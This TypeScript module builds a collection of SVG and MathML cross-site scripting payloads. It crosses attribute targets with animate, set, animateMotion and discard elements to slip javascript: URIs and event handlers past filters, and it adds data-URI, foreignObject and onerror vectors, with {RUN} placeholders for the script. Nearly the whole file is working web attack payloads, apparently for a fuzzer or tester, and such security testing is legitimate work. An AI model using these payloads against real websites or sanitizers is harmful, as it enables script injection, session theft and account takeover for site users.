import { combine, family, type Vector } from './vector.ts';

/** What an animation sets. */
const TARGETS: Record<string, string> = {
  href: 'href',
  'xlink:href': 'xlink:href',
  onclick: 'onclick',
  style: 'style',
};

/** How it sets it. */
const MOVES: Record<string, string> = {
  'animate values': '<animate attributeName="@" values="javascript:{RUN}"/>',
  'animate to': '<animate attributeName="@" from="x" to="javascript:{RUN}" begin="0s" dur="1s" fill="freeze"/>',
  'animate values, second': '<animate attributeName="@" values="x;javascript:{RUN}" keyTimes="0;0" dur="1s"/>',
  set: '<set attributeName="@" to="javascript:{RUN}"/>',
  'set by script': '<set attributeName="@" to="javascript:{RUN}" onbegin="{RUN}" onend="{RUN}" dur="1ms"/>',
  'animateTransform begin': '<animateTransform attributeName="transform" onbegin="{RUN}" data-x="@"/>',
  animateMotion: '<animateMotion onrepeat="{RUN}" path="M0 0L1 1" dur="1ms" repeatCount="2" data-x="@"/>',
  discard: '<discard begin="0s" onbegin="{RUN}" data-x="@"/>',
};

const moves = combine(TARGETS, MOVES, (target, move) =>
  ['<svg><a><text y="9">a</text>', move.replaceAll('@', target), '</a></svg>'].join(''),
);

const others = family('animation', [
  '<svg><a id="a"><text>a</text></a><animate href="#a" attributeName="href" to="javascript:{RUN}" begin="0s"/></svg>',
  '<svg><animate xlink:href="#a" attributeName="href" values="javascript:{RUN}"/><a id="a"><circle r="9"/></a></svg>',
  '<svg><image><animate attributeName="href" to="{LOAD}"/></image></svg>',
  "<svg><use><set attributeName=\"href\" to=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>#x\"/></use></svg>",
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={RUN} />#x"></use></svg>',
  '<svg><use href="#y"/><g id="y"><a href="javascript:{RUN}"><text>a</text></a></g></svg>',
  '<svg><animate onbegin="{RUN}" attributeName="x" dur="1ms"/></svg>',
  '<svg><script><animate attributeName="href" to="data:text/javascript,{RUN}"/></script></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>{RUN}</script>"></iframe></foreignObject></svg>',
  '<svg><switch><foreignObject requiredExtensions="http://www.w3.org/1999/xhtml"><img src=x:x onerror={RUN}></foreignObject></switch></svg>',
  '<svg><handler type="text/javascript" ev:event="load">{RUN}</handler><listener event="load" handler="#h"/></svg>',
  '<svg><view onclick="{RUN}"/><a href="#"><set attributeName="onmouseover" to="{RUN}"/></a></svg>',
  '<svg viewBox="0 0 9 9"><metadata><script>{RUN}</script></metadata><title onclick="{RUN}">a</title></svg>',
  '<math><mi><set attributeName="href" to="javascript:{RUN}"/></mi><animate attributeName="href" to="javascript:{RUN}"/></math>',
]);

/** Animations, and what else drawings can do. */
export const animation: readonly Vector[] = [...moves, ...others];
